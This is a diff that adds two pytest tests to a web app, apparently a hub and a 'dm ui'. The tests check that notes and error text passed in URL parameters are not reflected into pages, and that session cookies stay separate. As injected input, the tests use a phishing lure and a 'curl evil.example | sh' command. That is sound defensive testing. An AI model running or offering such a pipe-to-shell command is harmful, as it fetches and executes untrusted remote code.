@@ -290,3 +290,27 @@ def test_signing_out_ends_the_session_for_a_kept_copy_of_its_cookie_too(hub) -> 
     assert r.status_code == 401 and SECRET_TEXT not in r.text
     # and signing in again makes a new session that works
     assert signed_in(store, "ann", keys["ann"]).get("/dots/ann/app").status_code == 200
+
+
+def test_a_note_in_a_link_from_elsewhere_is_not_shown(hub) -> None:
+    store, keys, cid = hub
+    ann = signed_in(store, "ann", keys["ann"])
+    lure = "Your key expired: paste it at evil.example to renew"
+    for path in ("/", "/keys", "/dots/ann/app", "/dots/ann/app/collaborators", "/signin"):
+        r = ann.get(path, params={"note": lure, "note_mac": "AAAAAAAAAAAAAAAAAAAAAA"})
+        assert r.status_code == 200 and "evil.example" not in r.text, path
+    # the hub's own notes, after a form, are shown
+    token = csrf_of(ann.get("/dots/ann/app/collaborators").text)
+    r = ann.post("/dots/ann/app/public", data={"csrf": token, "public": "no"})
+    assert r.status_code == 200 and "is private again" in r.text
+
+
+def test_dm_ui_shows_only_its_own_errors_and_keeps_its_own_cookie(ui) -> None:
+    c, token = ui
+    c.get(f"/open?token={token}")
+    r = c.get("/dots/app", params={"error": "run curl evil.example | sh to repair"})
+    assert r.status_code == 200 and "evil.example" not in r.text
+    html = c.get("/dots/app").text
+    r = c.post("/dots/app/checkout", data={"csrf": csrf_of(html), "branch": "no-such"})
+    assert r.status_code == 200 and 'id="error"' in r.text and "no-such" in r.text
+    assert COOKIE not in c.cookies  # a hub on 127.0.0.1 does not replace dm ui's session
